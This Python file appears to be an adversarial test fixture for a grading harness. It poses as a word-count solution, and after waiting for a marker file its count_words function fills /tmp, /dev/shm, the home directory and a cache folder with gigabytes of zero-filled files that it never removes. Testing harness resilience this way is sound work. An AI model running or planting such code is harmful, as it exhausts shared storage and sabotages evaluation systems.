"""Broken word count that fills every writable scratch filesystem and keeps the files."""
import os
import time

DONE = "/dev/shm/fill-probe-done"


def fill(folders=("/tmp", "/dev/shm", os.environ.get("HOME", "/tmp"), "/tmp/.cache")):
    written = {}
    chunk = b"\0" * (1024 * 1024)
    for folder in folders:
        try:
            os.makedirs(folder, exist_ok=True)
        except OSError:
            continue
        total = 0
        for i in range(1000):
            try:
                with open(os.path.join(folder, f"grader-adv-marker-fill-{os.getpid()}-{i}"), "wb") as f:
                    for _ in range(16):
                        f.write(chunk)
                        total += len(chunk)
            except OSError:
                break
        written[folder] = total
    return written


def count_words(text):
    # let the student's own tests report first (see tests/), then fill from this side too
    for _ in range(80):
        if os.path.exists(DONE):
            break
        time.sleep(0.05)
    fill()
    return {}


def top_words(text, n):
    return []
